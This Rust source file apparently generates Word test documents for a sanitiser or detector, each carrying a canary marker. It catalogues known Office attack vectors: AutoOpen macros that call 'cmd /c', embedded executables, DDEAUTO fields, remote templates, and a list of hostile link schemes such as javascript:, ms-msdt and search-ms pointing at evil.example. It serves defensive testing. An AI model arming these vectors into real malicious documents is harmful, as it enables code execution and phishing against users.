//! Word vectors outside fields: macros, objects, links, parts, settings.

use super::SENTENCE;
use super::docx_parts;
use super::office::planted;
use crate::case::Case;
use crate::make::ole::{compound, macro_project, packaged, program};
use crate::make::package::{Package, XML};
use crate::make::picture;
use crate::make::xml::Wording;

const MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
pub const WML: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
pub const DOC: &str = "word/document.xml";
pub const SETTINGS: &str = "word/settings.xml";
pub const NAMESPACES: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
    xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
    xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" \
    xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" \
    xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\" \
    xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" \
    xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" \
    xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\"";
pub const END: &str = "<w:sectPr>";

/// A plain document: heading, the sentence in two runs, a table, a picture, a
/// web link, a header, a footnote and a comment.
pub fn base() -> Package {
    let mut package = Package::default();
    let (head, tail) = SENTENCE.split_at(SENTENCE.find('𠮷').unwrap_or(0));
    let body = format!(
        "{XML}<w:document {NAMESPACES}><w:body>\
         <w:p><w:pPr><w:pStyle w:val=\"Heading1\"/></w:pPr><w:r><w:t>申請書</w:t></w:r></w:p>\
         <w:p><w:r><w:t>{head}</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>{tail}</w:t></w:r></w:p>\
         <w:p><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>町のページ</w:t></w:r></w:hyperlink></w:p>\
         <w:tbl><w:tblPr><w:tblW w:w=\"0\" w:type=\"auto\"/></w:tblPr><w:tblGrid><w:gridCol w:w=\"4000\"/></w:tblGrid>\
         <w:tr><w:tc><w:tcPr><w:tcW w:w=\"4000\" w:type=\"dxa\"/></w:tcPr><w:p><w:r><w:t>表のセル</w:t></w:r></w:p></w:tc></w:tr></w:tbl>\
         <w:p><w:r>{}</w:r></w:p>\
         <w:sectPr><w:headerReference w:type=\"default\" r:id=\"rIdHead\"/><w:pgSz w:w=\"11906\" w:h=\"16838\"/>\
         <w:pgMar w:top=\"1700\" w:right=\"1700\" w:bottom=\"1700\" w:left=\"1700\" w:header=\"850\" w:footer=\"850\" w:gutter=\"0\"/>\
         </w:sectPr></w:body></w:document>",
        drawing("r:embed=\"rIdPic\"", "")
    );
    package
        .relate("", "rId1", "officeDocument", DOC)
        .part(DOC, MAIN, body)
        .part(
            SETTINGS,
            &format!("{WML}settings+xml"),
            format!("{XML}<w:settings {NAMESPACES}><w:zoom w:percent=\"100\"/></w:settings>"),
        )
        .part("word/styles.xml", &format!("{WML}styles+xml"), styles())
        .part(
            "word/header1.xml",
            &format!("{WML}header+xml"),
            format!("{XML}<w:hdr {NAMESPACES}><w:p><w:r><w:t>ヘッダー</w:t></w:r></w:p></w:hdr>"),
        )
        .part("word/media/image1.png", "", picture::seal())
        .relate(DOC, "rIdSet", "settings", "settings.xml")
        .relate(DOC, "rIdSty", "styles", "styles.xml")
        .relate(DOC, "rIdHead", "header", "header1.xml")
        .relate(DOC, "rIdPic", "image", "media/image1.png")
        .relate_out(DOC, "rIdWeb", "hyperlink", "https://www.example.jp/town");
    package
}

fn styles() -> String {
    format!(
        "{XML}<w:styles {NAMESPACES}><w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"Normal\">\
         <w:name w:val=\"Normal\"/></w:style><w:style w:type=\"paragraph\" w:styleId=\"Heading1\">\
         <w:name w:val=\"heading 1\"/><w:basedOn w:val=\"Normal\"/><w:rPr><w:b/><w:sz w:val=\"32\"/></w:rPr></w:style></w:styles>"
    )
}

/// An inline picture; `blip` are the attributes of its source.
pub fn drawing(blip: &str, click: &str) -> String {
    format!(
        "<w:drawing><wp:inline><wp:extent cx=\"900000\" cy=\"900000\"/><wp:docPr id=\"1\" name=\"印影\">{click}</wp:docPr>\
         <a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">\
         <pic:pic><pic:nvPicPr><pic:cNvPr id=\"1\" name=\"p\"/><pic:cNvPicPr/></pic:nvPicPr>\
         <pic:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>\
         <pic:spPr><a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"900000\" cy=\"900000\"/></a:xfrm>\
         <a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
    )
}

/// Every case of this file.
pub fn cases() -> Vec<Case> {
    let mut cases = vec![
        Case::twin(
            "docx-twin",
            "docx",
            base().write(Wording::Plain),
            &[SENTENCE, "申請書", "表のセル", "ヘッダー", "町のページ"],
        ),
        Case::twin(
            "docx-twin+utf16le",
            "docx",
            base().write(Wording::Utf16Little),
            &[SENTENCE, "表のセル"],
        ),
        Case::twin(
            "docx-twin+references",
            "docx",
            base().write(Wording::References),
            &[SENTENCE, "表のセル"],
        ),
        Case::twin(
            "docx-twin+cdata",
            "docx",
            base().write(Wording::Cdata),
            &[SENTENCE, "表のセル"],
        ),
        Case::twin(
            "docx-twin+prefixes",
            "docx",
            base().write(Wording::Prefixes),
            &[SENTENCE, "表のセル"],
        ),
        Case::twin(
            "docx-twin+strict",
            "docx",
            base().write(Wording::Strict),
            &[SENTENCE, "表のセル"],
        ),
    ];
    for (name, plant) in
        MACROS.iter().chain(OBJECTS).chain(LINKS).chain(docx_parts::PARTS).chain(docx_parts::MARKUP)
    {
        let extension = if name.starts_with("macro") { "docm" } else { "docx" };
        cases.extend(planted(base, &format!("docx-{name}"), extension, *plant));
    }
    for (index, scheme) in SCHEMES.iter().enumerate() {
        let id = format!("docx-link-scheme{index:02}");
        cases.push(Case::gone(&id, "docx", |canary| {
            let mut package = base();
            package.relate_out(DOC, "rIdX", "hyperlink", &scheme.replace("{}", canary));
            package.before(
                DOC,
                END,
                "<w:p><w:hyperlink r:id=\"rIdX\"><w:r><w:t>押す</w:t></w:r></w:hyperlink></w:p>",
            );
            package.write(Wording::Plain)
        }));
    }
    cases
}

/// Link targets that are no web page and no mail address.
pub const SCHEMES: &[&str] = &[
    "javascript:alert('{}')",
    "JaVaScRiPt:alert('{}')",
    "java\tscript:alert('{}')",
    " javascript:alert('{}')",
    "javascript&colon;alert('{}')",
    "vbscript:msgbox(\"{}\")",
    "data:text/html,<script>{}</script>",
    "file:///C:/{}.exe",
    "file://{}.example/share/x.exe",
    "\\\\{}.example\\share\\x.doc",
    "//{}.example/share/x.doc",
    "ms-msdt:/id PCWDiagnostic /param {}",
    "search-ms:query={}&crumb=location:\\\\evil.example",
    "mhtml:http://{}.example/a!x-usc:http://b.example/",
    "ms-word:ofe|u|http://{}.example/x.dotm",
    "ms-officecmd:{}",
    "ldap://{}.example/x",
    "ftp://{}.example/x",
    "telnet://{}.example",
    "C:\\{}.exe",
    "..\\..\\{}.hta",
    "calculator:{}",
    "shell:{}",
    "http\u{200b}s://{}.example/",
];

/// A vector's name and what plants it.
pub type Named = (&'static str, fn(&mut Package, &str));

const MACROS: &[Named] = &[
    ("macro-project", |p, canary| {
        macro_document(p, "application/vnd.ms-word.document.macroEnabled.main+xml", canary);
    }),
    ("macro-template", |p, canary| {
        macro_document(p, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", canary);
    }),
    ("macro-plain-type", |p, canary| macro_document(p, MAIN, canary)),
    ("macro-data", |p, canary| {
        macro_document(p, "application/vnd.ms-word.document.macroEnabled.main+xml", "x");
        p.part("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", format!("{XML}<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:mcds><wne:mcd wne:macroName=\"P.M.{canary}\" wne:name=\"x\"/></wne:mcds></wne:vbaSuppData>"));
        p.relate(
            "word/vbaProject.bin",
            "rId1",
            "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
            "vbaData.xml",
        );
    }),
    ("macro-keymap", |p, canary| {
        p.part("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", format!("{XML}<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:keymaps><wne:keymap wne:kcmPrimary=\"0231\"><wne:macro wne:macroName=\"{canary}\"/></wne:keymap></wne:keymaps></wne:tcg>"));
        p.relate(
            DOC,
            "rIdX",
            "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations",
            "customizations.xml",
        );
    }),
    ("macro-toolbars", |p, canary| {
        p.part("word/attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars", canary);
        p.relate(
            DOC,
            "rIdX",
            "http://schemas.microsoft.com/office/2006/relationships/attachedToolbars",
            "attachedToolbars.bin",
        );
    }),
];

fn macro_document(package: &mut Package, main: &str, canary: &str) {
    let source = format!("Sub AutoOpen()\r\nShell \"cmd /c {canary}\"\r\nEnd Sub");
    package.retype(DOC, main);
    package.part(
        "word/vbaProject.bin",
        "application/vnd.ms-office.vbaProject",
        macro_project(&source),
    );
    package.relate(
        DOC,
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    );
}

const OBJECTS: &[Named] = &[
    ("object-native", |p, canary| {
        p.part(
            "word/embeddings/oleObject1.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
            packaged("invoice.exe", &program(canary)),
        );
        p.relate(DOC, "rIdX", "oleObject", "embeddings/oleObject1.bin");
        p.before(DOC, END, &object("<o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rIdX\"/>"));
    }),
    ("object-equation", |p, canary| {
        let data = compound(
            Some("0002ce02-0000-0000-c000-000000000046"),
            &[("Equation Native", canary.as_bytes())],
        );
        p.part(
            "word/embeddings/oleObject1.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
            data,
        );
        p.relate(DOC, "rIdX", "oleObject", "embeddings/oleObject1.bin");
        p.before(DOC, END, &object("<o:OLEObject Type=\"Embed\" ProgID=\"Equation.3\" ShapeID=\"s1\" DrawAspect=\"Content\" ObjectID=\"_1\" r:id=\"rIdX\"/>"));
    }),
    ("object-link", |p, canary| {
        p.relate_out(DOC, "rIdX", "oleObject", &format!("http://{canary}.example/x.rtf"));
        p.before(DOC, END, &object("<o:OLEObject Type=\"Link\" ProgID=\"Word.Document.8\" ShapeID=\"s1\" DrawAspect=\"Content\" ObjectID=\"_1\" r:id=\"rIdX\" UpdateMode=\"Always\"/>"));
    }),
    ("object-package", |p, canary| {
        let mut inner = base();
        macro_document(
            &mut inner,
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            canary,
        );
        p.part(
            "word/embeddings/inner.docm",
            "application/vnd.ms-word.document.macroEnabled.12",
            inner.write(Wording::Plain),
        );
        p.relate(DOC, "rIdX", "package", "embeddings/inner.docm");
        p.before(DOC, END, &object("<o:OLEObject Type=\"Embed\" ProgID=\"Word.DocumentMacroEnabled.12\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rIdX\"/>"));
    }),
    ("object-orphan", |p, canary| {
        p.part("word/embeddings/x.exe", "application/octet-stream", program(canary));
    }),
    ("object-progid", |p, canary| {
        p.before(DOC, END, &object(&format!("<o:OLEObject Type=\"Embed\" ProgID=\"{canary}\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\"/>")));
    }),
    ("activex", |p, canary| {
        p.part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", format!("{XML}<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{{D27CDB6E-AE6D-11CF-96B8-444553540000}}\" ax:persistence=\"persistPropertyBag\"><ax:ocxPr ax:name=\"Movie\" ax:value=\"http://{canary}.example/x.swf\"/></ax:ocx>"));
        p.part(
            "word/activeX/activeX1.bin",
            "application/vnd.ms-office.activeX",
            compound(None, &[("Contents", canary.as_bytes())]),
        );
        p.relate(DOC, "rIdX", "control", "activeX/activeX1.xml");
        p.relate(
            "word/activeX/activeX1.xml",
            "rId1",
            "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
            "activeX1.bin",
        );
        p.before(DOC, END, "<w:p><w:r><w:object><w:control r:id=\"rIdX\" w:name=\"Flash1\" w:shapeid=\"s1\"/></w:object></w:r></w:p>");
    }),
    ("altchunk-html", |p, canary| {
        chunk(p, "chunk1.html", "text/html", &format!("<html><script>{canary}</script></html>"))
    }),
    ("altchunk-rtf", |p, canary| {
        chunk(
            p,
            "chunk1.rtf",
            "application/rtf",
            &format!("{{\\rtf1 {{\\field{{\\*\\fldinst DDEAUTO {canary}}}}}}}"),
        )
    }),
    ("altchunk-mht", |p, canary| {
        chunk(
            p,
            "chunk1.mht",
            "message/rfc822",
            &format!(
                "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>{canary}</script>"
            ),
        )
    }),
    ("altchunk-out", |p, canary| {
        p.relate_out(DOC, "rIdX", "aFChunk", &format!("http://{canary}.example/x.htm"));
        p.before(DOC, END, "<w:altChunk r:id=\"rIdX\"/>");
    }),
];

fn object(inside: &str) -> String {
    format!(
        "<w:p><w:r><w:object w:dxaOrig=\"1440\" w:dyaOrig=\"1440\"><v:shape id=\"s1\" style=\"width:72pt;height:72pt\" o:ole=\"\"><v:imagedata r:id=\"rIdPic\" o:title=\"\"/></v:shape>{inside}</w:object></w:r></w:p>"
    )
}

fn chunk(package: &mut Package, file: &str, kind: &str, text: &str) {
    package.part(&format!("word/{file}"), kind, text);
    package.relate(DOC, "rIdX", "aFChunk", file);
    package.before(DOC, END, "<w:altChunk r:id=\"rIdX\"/>");
}

const LINKS: &[Named] = &[
    ("link-template", |p, canary| {
        setting(
            p,
            "attachedTemplate",
            "<w:attachedTemplate r:id=\"rIdX\"/>",
            &format!("http://{canary}.example/t.dotm"),
        )
    }),
    ("link-template-unc", |p, canary| {
        setting(
            p,
            "attachedTemplate",
            "<w:attachedTemplate r:id=\"rIdX\"/>",
            &format!("file:///\\\\{canary}.example\\t.dotm"),
        )
    }),
    ("link-mailmerge", |p, canary| {
        setting(
            p,
            "mailMergeSource",
            &format!(
                "<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:dataType w:val=\"native\"/><w:connectString w:val=\"Provider=x;Data Source={canary}\"/><w:query w:val=\"SELECT * FROM {canary}\"/><w:dataSource r:id=\"rIdX\"/></w:mailMerge>"
            ),
            &format!("file:///C:/{canary}.mdb"),
        )
    }),
    ("link-schema", |p, canary| {
        p.before(SETTINGS, "</w:settings>", &format!("<w:attachedSchema w:val=\"http://{canary}.example/s\"/><w:saveThroughXslt w:solutionID=\"{canary}\"/>"));
    }),
    ("link-subdocument", |p, canary| {
        p.relate_out(DOC, "rIdX", "subDocument", &format!("http://{canary}.example/sub.docx"));
        p.before(DOC, END, "<w:subDoc r:id=\"rIdX\"/>");
    }),
    ("link-frame", |p, canary| {
        p.part("word/webSettings.xml", &format!("{WML}webSettings+xml"), format!("{XML}<w:webSettings {NAMESPACES}><w:frameset><w:frame><w:name w:val=\"f\"/><w:sourceFileName r:id=\"rId1\"/></w:frame></w:frameset></w:webSettings>"));
        p.relate(DOC, "rIdWs", "webSettings", "webSettings.xml");
        p.relate_out(
            "word/webSettings.xml",
            "rId1",
            "frame",
            &format!("http://{canary}.example/f.htm"),
        );
    }),
    ("link-image", |p, canary| {
        p.relate_out(DOC, "rIdX", "image", &format!("http://{canary}.example/x.png"));
        p.before(DOC, END, &format!("<w:p><w:r>{}</w:r></w:p>", drawing("r:link=\"rIdX\"", "")));
    }),
    ("link-image-beside", |p, canary| {
        p.relate_out(DOC, "rIdX", "image", &format!("file:////{canary}.example/x.png"));
        p.before(
            DOC,
            END,
            &format!("<w:p><w:r>{}</w:r></w:p>", drawing("r:embed=\"rIdPic\" r:link=\"rIdX\"", "")),
        );
    }),
    ("link-vml", |p, canary| {
        p.relate_out(DOC, "rIdX", "image", &format!("http://{canary}.example/x.png"));
        p.before(DOC, END, "<w:p><w:r><w:pict><v:shape id=\"s2\" style=\"width:9pt;height:9pt\"><v:imagedata r:href=\"rIdX\"/></v:shape></w:pict></w:r></w:p>");
    }),
    ("link-vml-src", |p, canary| {
        p.before(DOC, END, &format!("<w:p><w:r><w:pict><v:shape id=\"s2\" href=\"file://{canary}.example/\" style=\"width:9pt;height:9pt\"><v:imagedata src=\"http://{canary}.example/x.png\"/></v:shape></w:pict></w:r></w:p>"));
    }),
    ("link-background", |p, canary| {
        p.relate_out(DOC, "rIdX", "image", &format!("http://{canary}.example/x.png"));
        p.replace(DOC, "<w:body>", "<w:background w:color=\"FFFFFF\"><v:background id=\"_b\"><v:fill r:id=\"rIdX\" type=\"frame\"/></v:background></w:background><w:body>");
    }),
    ("link-header-image", |p, canary| {
        p.relate_out(
            "word/header1.xml",
            "rId1",
            "image",
            &format!("http://{canary}.example/x.png"),
        );
        p.before(
            "word/header1.xml",
            "</w:hdr>",
            &format!("<w:p><w:r>{}</w:r></w:p>", drawing("r:link=\"rId1\"", "")),
        );
    }),
    ("link-hover", |p, canary| {
        p.relate_out(DOC, "rIdX", "hyperlink", &format!("file://{canary}.example/x"));
        p.before(
            DOC,
            END,
            &format!(
                "<w:p><w:r>{}</w:r></w:p>",
                drawing(
                    "r:embed=\"rIdPic\"",
                    "<a:hlinkClick r:id=\"rIdX\"/><a:hlinkHover r:id=\"rIdX\"/>"
                )
            ),
        );
    }),
    ("link-package", |p, canary| {
        p.relate_out(
            "",
            "rIdX",
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            &format!("http://{canary}.example/c.xml"),
        );
    }),
    ("link-theme", |p, canary| {
        p.relate_out(DOC, "rIdX", "theme", &format!("http://{canary}.example/t.xml"));
    }),
    ("link-unknown", |p, canary| {
        p.relate_out(
            DOC,
            "rIdX",
            "http://schemas.example.com/unknown",
            &format!("http://{canary}.example/t.xml"),
        );
    }),
    ("link-dangling", |p, canary| {
        p.relate(DOC, "rIdX", "image", &format!("../../../{canary}/x.png"));
    }),
    ("link-bullet", |p, canary| {
        p.part("word/numbering.xml", &format!("{WML}numbering+xml"), format!("{XML}<w:numbering {NAMESPACES}><w:numPicBullet w:numPicBulletId=\"0\"><w:pict><v:shape id=\"b\" style=\"width:9pt;height:9pt\"><v:imagedata r:id=\"rId1\"/></v:shape></w:pict></w:numPicBullet></w:numbering>"));
        p.relate(DOC, "rIdNum", "numbering", "numbering.xml");
        p.relate_out(
            "word/numbering.xml",
            "rId1",
            "image",
            &format!("http://{canary}.example/x.png"),
        );
    }),
];

fn setting(package: &mut Package, kind: &str, markup: &str, target: &str) {
    package.before(SETTINGS, "</w:settings>", markup);
    package.relate_out(SETTINGS, "rIdX", kind, target);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_carrier_shows_its_sentence() {
        let found = crate::canary::Unpacked::of(&base().write(Wording::Plain));
        assert!(found.has_sentence(SENTENCE));
    }
}
